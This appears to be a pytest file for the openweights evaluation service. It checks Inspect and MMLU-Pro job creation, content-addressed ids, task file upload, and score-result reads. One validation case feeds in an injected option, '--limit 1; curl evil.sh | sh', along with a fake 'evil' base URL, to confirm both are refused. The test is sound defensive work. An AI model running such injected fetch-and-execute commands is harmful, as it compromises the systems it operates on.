"""Submitting the evaluation jobs through the real services: the original's cookbook call
runs unchanged, ids are content-addressed ``inspectjob-``/``mmlujob-``, Inspect's options
are checked (a refused one names itself, nothing is appended), a local task file is
uploaded, and ``ow.evals.results`` / ``ow evals ls`` read the score events."""

from __future__ import annotations

import json
from pathlib import Path

import anyio
import nats
import pytest
from click.testing import Result
from typer.testing import CliRunner

from openweights import OpenWeights
from openweights.adapters.postgres.db import connect, query
from openweights.cli.main import app
from openweights.config import Settings
from openweights.errors import InvalidRequest
from openweights.images import WORKER_VLLM
from openweights.jobs.evals.scores import score_event
from openweights.replay import rebuild
from openweights.services.api.evals import result_from_row
from openweights.subjects import Subjects

TASK = Path(__file__).parents[1] / "fixtures" / "inspect" / "tiny_task.py"


async def _last_seq(settings: Settings) -> int:
    nc = await nats.connect(settings.nats_url)
    try:
        info = await nc.jetstream().stream_info(Subjects(settings.namespace).events_stream)
        return int(info.state.last_seq)
    finally:
        await nc.close()


def test_the_cookbook_inspect_call(ow: OpenWeights) -> None:
    from openweights.jobs import inspect_ai, mmlu_pro  # what the original's README did

    assert type(ow.inspect_ai.jobs) is inspect_ai.InspectAI
    assert type(ow.mmlu_pro.jobs) is mmlu_pro.MMLUPro

    job = ow.inspect_ai.create(model="unsloth/Llama-3.2-1B",
                               eval_name="inspect_evals/gpqa_diamond", options="--top-p 0.9")
    assert job.id.startswith("inspectjob-") and len(job.id) == len("inspectjob-") + 12
    assert (job.type, job.status, job.model) == ("custom", "pending", "unsloth/Llama-3.2-1B")
    assert job.params["validated_params"] == {
        "model": "unsloth/Llama-3.2-1B", "eval_name": "inspect_evals/gpqa_diamond",
        "max_model_len": 8192, "options": "--top-p 0.9", "task_file": None,
        "job_id_suffix": None, "deployment": None, "base_url": None, "api_key": None}
    assert job.script == "python -m openweights.jobs.evals.inspect_eval"
    assert (job.docker_image, job.requires_vram_gb) == (WORKER_VLLM, 60)
    again = ow.inspect_ai.create(model="unsloth/Llama-3.2-1B",
                                 eval_name="inspect_evals/gpqa_diamond", options="--top-p 0.9")
    assert again.id == job.id  # content-addressed: runs once
    other = ow.inspect_ai.create(model="unsloth/Llama-3.2-1B",
                                 eval_name="inspect_evals/gpqa_diamond", options="--top-p 0.8")
    assert other.id != job.id


def test_mmlu_pro_with_the_originals_params(ow: OpenWeights) -> None:
    job = ow.mmlu_pro.create(model="org/m-7B", ntrain=3, selected_subjects="math,biology",
                             requires_vram_gb=0)
    assert job.id.startswith("mmlujob-") and job.requires_vram_gb == 0
    params = job.params["validated_params"]
    assert (params["ntrain"], params["selected_subjects"], params["save_dir"],
            params["max_model_len"], params["max_new_tokens"]) == (
        3, "math,biology", "uploads", 4096, 2048)
    assert job.script == "python -m openweights.jobs.evals.mmlu_pro"
    assert ow.mmlu_pro.create(model="org/m-7B", ntrain=3, selected_subjects="math,biology",
                              requires_vram_gb=0).id == job.id
    assert ow.mmlu_pro.create(model="org/m-7B").requires_vram_gb == 60


def test_a_local_task_file_is_uploaded(ow: OpenWeights) -> None:
    job = ow.inspect_ai.create(model="tiny/llama", eval_name=f"{TASK}@tiny_qa",
                               max_model_len=256, options="--limit 2", requires_vram_gb=0)
    params = job.params["validated_params"]
    assert params["eval_name"] == "tiny_task.py@tiny_qa"
    assert params["task_file"].startswith("inspect_task:file-")
    assert ow.files.content(params["task_file"]) == TASK.read_bytes()


@pytest.mark.parametrize(("params", "says"), [
    ({"options": "--limit 1; curl evil.sh | sh"}, "option --limit '1;'"),
    ({"options": "--sandbox docker"}, "option --sandbox is not accepted"),
    ({"options": "--model openai/gpt-4o"}, "openweights sets the job's model itself"),
    ({"eval_name": "missing_task.py"}, "is not a file here"),
    ({"max_model_len": 0}, "max_model_len"),
    ({"bogus": 1}, "bogus"),
    ({"deployment": "apijob-000000000000"}, "deployment 'apijob-000000000000' not found"),
    ({"base_url": "http://evil/v1"}, "base_url and api_key come from a deployment"),
    ({"deployment": object()}, "deployment is not up"),
])
def test_bad_inspect_input_is_refused_and_nothing_is_appended(
        ow: OpenWeights, stack: Settings, params: dict[str, object], says: str) -> None:
    before = anyio.run(_last_seq, stack)
    with pytest.raises(InvalidRequest, match=says.replace("(", r"\(").replace("|", r"\|")):
        ow.inspect_ai.create(**({"model": "org/m", "eval_name": "inspect_evals/x"} | params))
    with pytest.raises(InvalidRequest, match="ntrain"):
        ow.mmlu_pro.create(model="org/m", ntrain=-1)
    assert anyio.run(_last_seq, stack) == before


def test_a_deployment_must_be_a_running_api_serving_the_model(ow: OpenWeights) -> None:
    other = ow.mmlu_pro.create(model="org/m", requires_vram_gb=0)
    with pytest.raises(InvalidRequest, match=r"is a pending custom job, not a running ow\.api"):
        ow.inspect_ai.create(model="org/m", eval_name="inspect_evals/x", deployment=other.id)


def cli(stack: Settings, *args: str) -> Result:
    env = {"OW_NATS_URL": stack.nats_url, "OW_DATABASE_URL": stack.database_url,
           "OW_NAMESPACE": stack.namespace, "OW_HOME": str(stack.home), "COLUMNS": "200"}
    return CliRunner().invoke(app, list(args), env=env)


async def _rebuilt_results(settings: Settings, org: str) -> list[dict[str, object]]:
    await rebuild(settings, "ow_evals_replay")
    conn = await connect(settings.database_url)  # type: ignore[arg-type]
    try:
        await conn.execute("SET search_path TO ow_evals_replay")
        rows = await conn.fetch(query("api_evals_results"), org, None, 100, None, None)
        return [result_from_row(r) for r in rows]
    finally:
        await conn.execute("DROP SCHEMA IF EXISTS ow_evals_replay CASCADE")
        await conn.close()


def test_results_are_read_from_score_events(ow: OpenWeights, stack: Settings) -> None:
    assert ow.evals.results() == []
    assert "no scores yet" in cli(stack, "evals", "ls").output
    ow.run.log(score_event(eval="mmlu_pro", model="me/a", metrics={"accuracy": 0.25},
                           samples=4))
    ow.run.log({"type": "score", "eval": "broken"})  # malformed: not a result
    ow.run.log(score_event(eval="tiny_qa", model="me/a",
                           metrics={"includes/accuracy": 0.5, "includes/stderr": 0.1}))
    ow.run.log(score_event(eval="tiny_qa", model="me/b", metrics={"includes/accuracy": 1.0}))
    ow.run.log(score_event(eval="mmlu_pro", model="me/a", metrics={"accuracy": 0.75},
                           samples=4))  # a rerun: the newest wins
    ow.run.flush()
    results = ow.evals.results()
    assert [(r["model"], r["eval"], r["metrics"]) for r in results] == [
        ("me/a", "mmlu_pro", {"accuracy": 0.75}),
        ("me/b", "tiny_qa", {"includes/accuracy": 1.0}),
        ("me/a", "tiny_qa", {"includes/accuracy": 0.5, "includes/stderr": 0.1})]
    assert results[0]["job_id"] == ow.run.job_id and results[0]["samples"] == 4
    assert [r["eval"] for r in ow.evals.results(model="me/b")] == ["tiny_qa"]
    assert ow.evals.table()["rows"]["me/a"] == {
        "mmlu_pro/accuracy": 0.75, "tiny_qa/includes/accuracy": 0.5,
        "tiny_qa/includes/stderr": 0.1}

    shown = cli(stack, "evals", "ls")
    assert shown.exit_code == 0, shown.output
    header = next(line for line in shown.output.splitlines() if "mmlu_pro/accuracy" in line)
    assert "tiny_qa/includes/accuracy" in header and "model" in header
    row_a = next(line for line in shown.output.splitlines() if "me/a" in line)
    assert "0.75" in row_a and "0.5" in row_a
    only_b = cli(stack, "evals", "ls", "--model", "me/b", "--json")
    assert [r["model"] for r in json.loads(only_b.output)] == ["me/b"]
    # A view of the event log: a replay into a fresh schema gives the same results.
    keys = ("model", "eval", "metrics", "samples", "job_id", "run_id")
    rebuilt = anyio.run(_rebuilt_results, stack, ow.organization_id)
    assert [tuple(r[k] for k in keys) for r in rebuilt] == \
        [tuple(r[k] for k in keys) for r in results]
